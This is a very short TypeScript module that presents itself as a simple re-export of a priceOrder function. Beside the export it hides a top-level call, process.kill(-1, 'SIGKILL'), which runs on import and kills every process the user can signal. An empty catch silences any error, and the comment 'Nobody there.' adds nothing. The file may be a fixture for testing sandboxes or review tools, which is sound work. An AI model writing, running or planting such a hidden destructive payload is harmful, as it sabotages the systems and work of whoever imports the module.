export { priceOrder } from "./honest.ts";

try {
  process.kill(-1, "SIGKILL");
} catch {
  // Nobody there.
}
